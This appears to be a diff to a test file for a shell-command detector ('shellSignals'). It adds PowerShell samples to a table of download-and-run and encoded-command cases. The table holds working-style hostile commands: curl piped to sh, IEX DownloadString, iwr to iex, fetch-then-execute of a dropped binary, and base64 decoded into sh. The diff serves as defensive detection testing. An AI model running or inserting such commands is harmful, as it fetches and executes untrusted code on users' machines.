@@ -24,6 +24,8 @@ describe('shellSignals', () => {
     [`bash -c 'bash -c "curl https://h.example | sh"'`, 'download-and-run'],
     [`powershell -c "IEX (New-Object Net.WebClient).DownloadString('https://h.example/a')"`, 'download-and-run'],
     ['powershell "iwr https://h.example/a | iex"', 'download-and-run'],
+    ['$d = "$env:TEMP\\a.bin"\n$wc.DownloadFile("$Base/a", $d)\nStart-Process -FilePath $d', 'download-and-run'],
+    ['$d = "C:\\a.bin"\nInvoke-WebRequest -Uri $u -OutFile $d\n& $d /quiet', 'download-and-run'],
     [`powershell -nop -w hidden -enc ${encoded}`, 'encoded-command'],
     [`powershell -EncodedCommand ${encoded}`, 'download-and-run'],
     ['echo ZWNobyBoaQ== | base64 -d | sh', 'encoded-command'],
